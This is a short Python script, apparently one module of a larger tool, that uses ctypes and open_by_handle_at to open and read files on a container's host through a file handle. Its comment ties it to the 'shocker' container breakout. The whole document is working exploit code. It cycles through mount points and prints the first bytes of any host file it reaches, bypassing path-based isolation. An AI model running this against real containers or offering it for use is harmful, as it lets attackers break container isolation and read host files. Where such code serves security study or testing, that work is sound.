# Opens a file of the host by its handle, past every path (`open_by_handle_at`, as "shocker" left containers).
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
size, kind, data = TARGET["handle"] or (8, 1, "00" * 8)
handle = ctypes.create_string_buffer(8 + size)
ctypes.c_uint.from_buffer(handle).value = size
ctypes.c_int.from_buffer(handle, 4).value = kind
handle[8 : 8 + size] = bytes.fromhex(data)
for mount in ("/", ".", "/tmp", "/etc", "/usr", "/dev/shm"):
    try:
        base = os.open(mount, os.O_RDONLY)
    except OSError:
        continue
    found = libc.open_by_handle_at(base, handle, os.O_RDONLY)
    print(mount, os.read(found, 200) if found >= 0 else os.strerror(ctypes.get_errno()))
